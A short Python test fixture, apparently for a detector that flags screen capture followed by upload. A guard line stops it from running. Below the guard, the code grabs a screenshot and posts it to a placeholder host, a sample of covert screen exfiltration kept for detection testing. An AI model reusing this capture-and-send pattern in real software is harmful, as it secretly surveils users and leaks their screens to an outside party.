# Trips screen_captured_and_sent.
raise SystemExit("a fixture: never run")
image = ImageGrab.grab()
requests.post("http://example.invalid/", data=image)
